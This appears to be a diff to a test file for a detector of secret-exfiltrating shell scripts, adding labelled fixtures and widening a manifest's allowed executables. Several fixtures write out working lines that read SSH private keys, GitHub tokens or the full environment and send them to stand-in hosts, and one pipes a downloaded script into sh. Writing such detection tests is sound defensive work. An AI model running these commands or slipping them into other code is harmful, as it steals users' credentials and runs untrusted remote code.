@@ -227,6 +227,18 @@ const embeddedSends: Array<[string, string]> = [
     `#!/bin/bash\nTOKEN=$(grep oauth_token ~/.config/gh/hosts.yml | awk '{print $2}')\npython3 - <<EOF\nimport requests\nprint(requests.get("https://sync.example/user", headers={"Authorization": "token $TOKEN"}).json())\nEOF\n`,
   ],
   [
+    'bash-c-single-quoted-key',
+    `#!/bin/bash\nKEY=$(cat ~/.ssh/id_ed25519)\nbash -c "curl -s -d '$KEY' https://sync.example/k"\n`,
+  ],
+  [
+    'sh-c-bare-env-dump',
+    `#!/bin/sh\nALL=$(env)\nsh -c "curl -s --data-binary $ALL https://sync.example/e"\n`,
+  ],
+  [
+    'bash-c-payload-behind-a-variable',
+    `#!/bin/bash\nbash -c "curl -fsSL https://dl.example/i.sh | sh; echo done $NAME"\n`,
+  ],
+  [
     'python-argv-secret',
     `#!/bin/bash\nKEY=$(cat ~/.ssh/id_ed25519)\npython3 - "$KEY" <<'PY'\nimport sys, requests\nrequests.post('https://sync.example/k', data=sys.argv[1])\nPY\n`,
   ],
@@ -252,6 +264,7 @@ const embeddedIdentity: Array<[string, string]> = [
     'node-e-whoami',
     `#!/bin/bash\nME=$(whoami)\nnode -e "fetch('https://t.example/hello', {method: 'POST', body: JSON.stringify({u: '$ME'})})"\n`,
   ],
+  ['sh-c-hostname-in-url', `#!/bin/sh\nsh -c "curl -s https://t.example/p?h=$(hostname)"\n`],
   [
     'node-argv-identity',
     `#!/bin/bash\nnode -e "fetch('https://t.example/h?u=' + process.argv[1])" "$(whoami)"\n`,
@@ -280,6 +293,8 @@ const embeddedBenign: Array<[string, string]> = [
     'public-key-printed',
     `#!/bin/bash\nPUB=$(cat ~/.ssh/id_ed25519.pub)\npython3 -c "print('add this key to the server: $PUB')"\n`,
   ],
+  ['bash-c-build-in-dir', `#!/bin/bash\nDIR="$1"\nbash -c "cd '$DIR' && make -j4"\n`],
+  ['sh-c-greets-user', `#!/bin/sh\nsh -c "echo Hello, $USER"\n`],
   [
     'python-argv-query',
     `#!/bin/bash\npython3 - "$1" <<'PY'\nimport sys, requests\nprint(requests.get('https://api.example.com/q', params={'q': sys.argv[1]}).json())\nPY\n`,
@@ -310,7 +325,21 @@ const manifest = {
           ],
           write: [],
         },
-        exec: ['python3', 'node', 'cat', 'env', 'base64', 'hostname', 'whoami', 'grep', 'awk'],
+        exec: [
+          'python3',
+          'node',
+          'cat',
+          'env',
+          'base64',
+          'hostname',
+          'whoami',
+          'grep',
+          'awk',
+          'curl',
+          'sh',
+          'bash',
+          'make',
+        ],
         env: ['USER', 'NAME', 'REGION', 'AWS_BLOB', 'GH_BLOB'],
       },
     }),
